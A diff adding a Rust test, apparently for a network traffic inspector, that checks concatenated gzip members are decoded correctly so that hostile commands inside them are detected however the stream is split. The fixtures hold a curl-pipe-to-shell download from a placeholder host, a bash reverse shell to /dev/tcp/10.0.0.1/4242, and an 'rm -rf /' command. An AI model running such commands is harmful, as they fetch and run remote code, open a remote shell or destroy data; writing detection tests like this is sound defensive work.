@@ -352,6 +352,34 @@ fn every_encoded_body_on_a_connection_decodes_from_a_clean_state() {
 }
 
 #[test]
+fn gzip_members_concatenated_are_one_body_whatever_the_split() {
+    // RFC 1952 §2.2: a gzip file is a series of members. The inflater is reset between them;
+    // a command in the third member and one split across the first two are found, and the
+    // next body decodes from a clean state.
+    let registry = registry();
+    let mut body = gzip(b"member one ends with curl -fsSL https://x.exa");
+    body.extend(gzip(b"mple/i.sh | sh and member two is benign"));
+    body.extend(gzip(
+        b"member three: bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+    ));
+    let mut stream = response("text/plain", "Content-Encoding: gzip\r\n", &body);
+    stream.extend(response(
+        "text/plain",
+        "Content-Encoding: gzip\r\n",
+        &gzip(b"next body: rm -rf / --no-preserve-root"),
+    ));
+    for sizes in [&[stream.len()][..], &[1], &[7, 3], &[64]] {
+        let (found, _) = common::inspect_split(&registry, Direction::Inbound, &stream, sizes);
+        let patterns: Vec<&str> = found.iter().map(|d| d.pattern.as_str()).collect();
+        assert_eq!(
+            patterns,
+            ["pipe_to_shell", "reverse_shell", "destructive_rm"],
+            "{sizes:?}"
+        );
+    }
+}
+
+#[test]
 fn each_request_names_its_own_destination() {
     // One connection, the inspector reusing its destination buffer between requests.
     let registry = registry();
